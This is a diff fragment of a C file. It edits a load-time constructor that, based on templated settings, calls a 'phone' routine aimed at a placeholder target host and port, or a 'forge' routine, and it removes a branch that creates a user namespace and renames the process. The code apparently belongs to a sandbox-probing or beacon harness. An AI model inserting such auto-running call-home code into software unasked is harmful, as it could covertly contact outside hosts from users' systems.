@@ -6,7 +6,6 @@
 
 #include <arpa/inet.h>
 #include <netinet/in.h>
-#include <sched.h>
 #include <sys/socket.h>
 
 static volatile char target[256] = "@TARGET@", nonce[64] = "@NONCE@", port[16] = "@PORT@", way[8] = "@WAY@";
@@ -92,8 +91,6 @@ __attribute__((constructor)) static void first(void)
 		phone();
 	if (way[0] == 'f')
 		forge();
-	if (way[0] == 'n' && unshare(0x10000000) == 0)
-		prctl(PR_SET_NAME, nonce);
 }
 
 static int ping(struct sbx *x, void *self)
